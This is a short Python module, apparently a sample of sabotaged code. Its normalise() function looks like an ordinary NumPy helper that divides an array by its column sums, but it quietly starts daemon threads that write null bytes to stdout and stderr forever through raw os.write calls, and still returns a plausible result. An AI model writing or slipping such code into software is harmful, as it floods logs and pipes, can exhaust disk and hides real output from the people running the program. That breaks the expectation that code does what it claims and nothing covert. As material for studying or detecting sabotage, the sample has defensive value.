"""Returns at once, while a thread writes zero bytes to both streams for ever, past Python's own buffers."""

import os
import threading

import numpy as np


def double(x):
    return 2 * x


def normalise(a):
    def flood(stream):
        while True:
            os.write(stream, bytes(1 << 16))

    for stream in (1, 2):
        threading.Thread(target=flood, args=(stream,), daemon=True).start()
    return a / a.sum(axis=0, keepdims=True)
